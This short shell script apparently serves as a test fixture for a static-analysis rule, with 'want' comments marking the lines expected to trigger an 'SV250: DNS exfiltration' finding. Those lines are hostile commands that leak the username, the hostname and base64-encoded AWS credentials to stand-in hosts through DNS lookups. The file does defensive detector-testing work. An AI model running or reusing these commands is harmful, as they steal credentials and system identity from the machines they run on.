#!/bin/sh
dig "$(whoami | base64).x.oast.fun" # want "SV250: DNS exfiltration"
nslookup `hostname`.evil.example # want "SV250: DNS exfiltration"
fp=$(cat ~/.aws/credentials | base64 | tr -d '=\n')
chunk=${fp:0:60}
dig @192.0.2.53 +short "${chunk}.0.c.dnsprobe.example" # want "SV250: sends AWS credentials .read earlier.*DNS lookup"
